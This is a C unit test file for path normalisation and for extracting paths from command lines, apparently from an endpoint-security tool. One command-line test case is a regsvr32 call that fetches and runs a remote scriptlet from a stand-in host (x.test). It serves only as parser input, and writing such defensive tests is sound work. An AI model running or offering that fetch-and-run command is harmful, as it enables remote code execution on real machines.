/* SPDX-License-Identifier: Apache-2.0 */
#include "test.h"

#include "graph/path.h"
#include "guard.h"

static void one_place_has_one_key_however_it_is_spelled(void **state)
{
	const struct {
		const char *path, *key;
	} cases[] = {
		{ "C:\\Windows\\System32\\cmd.exe", "c:\\windows\\system32\\cmd.exe" },
		{ "\\??\\C:\\Windows\\System32\\cmd.exe", "c:\\windows\\system32\\cmd.exe" },
		{ "\\\\?\\C:\\Windows\\System32\\cmd.exe", "c:\\windows\\system32\\cmd.exe" },
		{ "\\SystemRoot\\System32\\cmd.exe", "c:\\windows\\system32\\cmd.exe" },
		{ "%SystemRoot%\\System32\\cmd.exe", "c:\\windows\\system32\\cmd.exe" },
		{ "%windir%\\System32\\cmd.exe", "c:\\windows\\system32\\cmd.exe" },
		{ "system32\\DRIVERS\\x.sys", "c:\\windows\\system32\\drivers\\x.sys" },
		{ "\\Device\\HarddiskVolume3\\Windows\\System32\\cmd.exe", "c:\\windows\\system32\\cmd.exe" },
		{ "\\Device\\HarddiskVolume12\\Users\\u\\x", "c:\\users\\u\\x" },
		{ "\\Device\\HarddiskVolume3\\Other\\x", "\\device\\harddiskvolume3\\other\\x" },
		{ "\\VOLUME{01d89a3c51b7e200-c0de0001}\\USERS\\U\\X.EXE", "c:\\users\\u\\x.exe" },
		{ "\\VOLUME{01d89a3c51b7e200-c0de0001}\\OTHER\\X", "\\volume{01d89a3c51b7e200-c0de0001}\\other\\x" },
		{ "\\VOLUME{01d8", "\\volume{01d8" },
		{ "%ProgramFiles%\\V\\a.exe", "c:\\program files\\v\\a.exe" },
		{ "%ProgramData%\\V\\a.exe", "c:\\programdata\\v\\a.exe" },
		{ "C:\\\xc3\x84rger\\X", "c:\\\xc3\xa4rger\\x" },
		{ "/usr/bin/Python3", "/usr/bin/Python3" },
		{ "a.exe", "a.exe" },
		{ "", "" },
	};
	struct arena a;

	(void)state;
	arena_init(&a, 0);
	for (size_t i = 0; i < sizeof(cases) / sizeof(*cases); i++)
		assert_slice(path_key(slice_str(cases[i].path), &a), cases[i].key);
	arena_done(&a);
}

static void a_key_is_its_own_key(void **state)
{
	static const char *const paths[] = { "\\SystemRoot\\a", "\\??\\c:\\a", "%windir%\\x", "system32\\x", "\\Device\\HarddiskVolume1\\Windows\\x" };
	struct arena a;

	(void)state;
	arena_init(&a, 0);
	for (size_t i = 0; i < sizeof(paths) / sizeof(*paths); i++) {
		struct slice once = path_key(slice_str(paths[i]), &a);

		assert_true(slice_eq(once, path_key(once, &a)));
	}
	arena_done(&a);
}

static void tails_and_folders(void **state)
{
	(void)state;
	assert_slice(path_tail(slice_str("C:\\a\\b.exe")), "b.exe");
	assert_slice(path_tail(slice_str("/a/b")), "b");
	assert_slice(path_tail(slice_str("b")), "b");
	assert_slice(path_tail(slice_str("C:\\a\\")), "");
	assert_slice(path_folder(slice_str("C:\\a\\b.exe")), "C:\\a");
	assert_slice(path_folder(slice_str("/b")), "");
	assert_slice(path_folder(slice_str("b")), "");
}

/* The paths of a command line, each in brackets. */
static void finds(const char *command, const char *want)
{
	struct guard g = guard_copy(slice_str(command), 0);
	char got[512] = "";
	size_t at = 0, n = 0;
	struct slice p;

	while ((p = path_in_command(g.bytes, &at)).p)
		n += (size_t)snprintf(got + n, sizeof(got) - n, "[%.*s]", (int)p.n, (const char *)p.p);
	assert_string_equal(got, want);
	guard_done(&g);
}

static void paths_in_a_command(void **state)
{
	(void)state;
	finds("", "");
	finds("   ", "");
	finds("cmd.exe /c \"C:\\a b\\x.cmd\" arg", "[cmd.exe][C:\\a b\\x.cmd]");
	finds("rundll32.exe C:\\t\\x.dll,Run", "[rundll32.exe][C:\\t\\x.dll]");
	finds("regsvr32 /s /i:http://x.test/a scrobj.dll", "[/i:http://x.test/a][scrobj.dll]");
	finds("node ./app/setup.js --port=3000", "[./app/setup.js]");
	finds("java -jar /opt/x/y.jar", "[/opt/x/y.jar]");
	finds("curl -o=/tmp/x/y file:///srv/a/b", "[/tmp/x/y][/srv/a/b]");
	finds("copy \\\\srv\\share\\x.exe C:\\x.exe", "[\\\\srv\\share\\x.exe][C:\\x.exe]");
	finds("x \"unclosed C:\\a", "");
	finds("'C:\\q\\w.ps1'", "[C:\\q\\w.ps1]");
	finds("sh -c ls", "");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(one_place_has_one_key_however_it_is_spelled),
		cmocka_unit_test(a_key_is_its_own_key),
		cmocka_unit_test(tails_and_folders),
		cmocka_unit_test(paths_in_a_command),
	};

	return RUN(tests);
}
